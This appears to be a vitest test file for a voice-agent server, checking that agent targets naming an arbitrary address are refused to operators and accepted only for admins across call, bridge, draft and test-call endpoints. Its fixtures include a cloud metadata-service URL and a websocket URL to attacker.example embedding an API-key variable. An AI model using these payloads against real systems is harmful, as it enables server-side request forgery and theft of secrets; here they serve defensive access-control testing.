import Fastify, { type FastifyInstance } from 'fastify';
import { pino } from 'pino';
import { afterEach, expect, it } from 'vitest';
import { AGENTS } from '../../../src/agents/index.ts';
import { parseTarget, saysAddress } from '../../../src/agents/target.ts';
import { browserBridge } from '../../../src/callers/browser/http/bridge.ts';
import { TestCall, type TestCallDeps } from '../../../src/callers/test/http/test-call.ts';
import type { AdminOptions } from '../../../src/http/admin.ts';
import type { Operator, Role } from '../../../src/http/operators.ts';
import { LocalMemory } from '../../../src/memory/local.ts';
import { type CallsDesk, callsApi } from '../../../src/orders/calls-api.ts';
import { Drafts } from '../../../src/workbench/drafts.ts';
import { type WorkbenchApiOptions, workbenchApi } from '../../../src/workbench/http/workbench-api.ts';
import { FakeClock } from '../../fakes/clock.ts';

/** An agent that is told by its address has this machine connect there, and send along what it names of our secrets: admins alone write one, however it comes. */

/** The metadata service of a cloud, and a key of ours for somebody's server. */
const AGENT = { kind: 'websocket', call: { url: 'http://169.254.169.254/latest', method: 'GET', address: 'a' } };
const KEY = { kind: 'websocket', url: `wss://attacker.example/\${ULTRAVOX_API_KEY}` };

const somebody = (role: Role): Operator => ({ id: `of-${role}`, name: role, role });
const admin: AdminOptions = {
  tokens: ['admin-token-of-sixteen-and-more'],
  people: async (token) => (token === 'operator' || token === 'admin' ? somebody(token) : undefined),
};
const shared = { admin, clock: new FakeClock(), says: (raw: unknown) => saysAddress(raw, AGENTS) };
const memory = () => new LocalMemory({ clock: shared.clock });
let app: FastifyInstance;
afterEach(() => app?.close());

const post = async (url: string, role: Role, payload: object) => {
  const answer = await app.inject({ method: 'POST', url, headers: { authorization: `Bearer ${role}` }, payload });
  return { status: answer.statusCode, code: answer.json().error?.code, needs: answer.json().error?.needs };
};
const REFUSED = { status: 403, code: 'ROLE_TOO_LOW', needs: 'admin' };

it('is said by the kinds that take an address, and by no other', () => {
  expect([AGENT, KEY].map((raw) => parseTarget(raw, AGENTS).ok)).toEqual([true, true]);
  expect([AGENT, KEY, 'websocket'].map((raw) => saysAddress(raw, AGENTS))).toEqual([true, true, true]);
  const others = AGENTS.map(({ name }) => name).filter((name) => saysAddress(name, AGENTS));
  expect(others).toEqual(['websocket']);
  expect([undefined, 7, {}, 'none'].map((raw) => saysAddress(raw, AGENTS))).toEqual([false, false, false, false]);
});

it('is no operator’s to choose for a call from a page', async () => {
  const opened: unknown[] = [];
  app = Fastify();
  await app.register(browserBridge, {
    admin,
    access: 'admin',
    origins: [],
    agents: [],
    systemPrompt: false,
    memory: memory(),
    fleet: { isAlone: true } as never,
    hasPrompt: () => true,
    saysAddress: shared.says,
    readAgent: async (raw) => parseTarget(raw, AGENTS),
    bridges: {
      sessionOf: () => undefined,
      open: async ({ agent }: { agent?: unknown }) => {
        opened.push(agent);
        return { sessionId: 's', answer: 'v=0' };
      },
    } as never,
  });
  const order = (role: Role, agent: unknown) =>
    post('/api/realtime/webrtc/bridge', role, { conversation_id: 'c', offer: 'v=0', agent });
  expect([await order('operator', AGENT), await order('operator', KEY)]).toMatchObject([REFUSED, REFUSED]);
  expect(opened).toEqual([]);
  expect(await order('operator', { kind: 'vapi', assistant_id: 'a' })).toMatchObject({ status: 200 });
  expect(await order('admin', KEY)).toMatchObject({ status: 200 });
  expect(opened).toMatchObject([{ kind: 'vapi' }, { kind: 'websocket' }]);
});

it('is no operator’s to order a call with', async () => {
  const placed: unknown[] = [];
  app = Fastify();
  await app.register(callsApi, {
    admin,
    clock: shared.clock,
    memory: memory(),
    mayDial: (number) => ({ ok: true, number }),
    saysAddress: shared.says,
    desk: {
      place: async ({ agent }: { agent?: unknown }) => {
        placed.push(agent);
        return { id: 'c', direction: 'outbound', status: 'queued', createdAt: new Date(0).toISOString() };
      },
    } as unknown as CallsDesk,
  });
  const order = (role: Role, agent: unknown) => post('/calls', role, { to: '+12025550143', agent });
  expect(await order('operator', AGENT)).toMatchObject(REFUSED);
  expect(placed).toEqual([]);
  expect(await order('operator', 'openai')).toMatchObject({ status: 201 });
  expect(await order('admin', AGENT)).toMatchObject({ status: 201 });
});

it('is no operator’s to draft', async () => {
  app = Fastify();
  await app.register(workbenchApi, {
    admin,
    dispatch: { saysAddress: shared.says, inside: { drafts: new Drafts(memory(), AGENTS) } },
  } as unknown as WorkbenchApiOptions);
  const draft = (role: Role, agent: object | string) =>
    post('/agents/drafts', role, { text: `---\nagent: ${JSON.stringify(agent)}\n---\nBe brief.\n` });
  expect(await draft('operator', KEY)).toMatchObject(REFUSED);
  expect(await draft('operator', 'openai')).toMatchObject({ status: 201 });
  expect(await draft('admin', KEY)).toMatchObject({ status: 201 });
});

it('is no operator’s to have tested by a program of his own', async () => {
  const told: Array<{ code?: string }> = [];
  const asked: unknown[] = [];
  const start = (role: Role) => {
    const socket = { send: (json: string) => void told.push(JSON.parse(json)), close: () => {} };
    const call = new TestCall(
      socket as never,
      {
        clock: shared.clock,
        operator: somebody(role),
        dispatch: { saysAddress: shared.says, readAgent: async (raw: unknown) => void asked.push(raw) },
        intake: {
          admit: () => ({ ok: true, arrival: { id: 'c', assign: () => new Promise(() => {}), free: () => {} } }),
        },
        forget: () => {},
        log: pino({ level: 'silent' }),
      } as unknown as TestCallDeps,
    );
    call.text(JSON.stringify({ type: 'start', agent: AGENT }));
  };
  start('operator');
  await Promise.resolve();
  expect(told[0]).toMatchObject({ type: 'error', code: 'ROLE_TOO_LOW' });
  expect(asked).toEqual([]);
  start('admin');
  await Promise.resolve();
  expect(asked).toEqual([AGENT]);
});
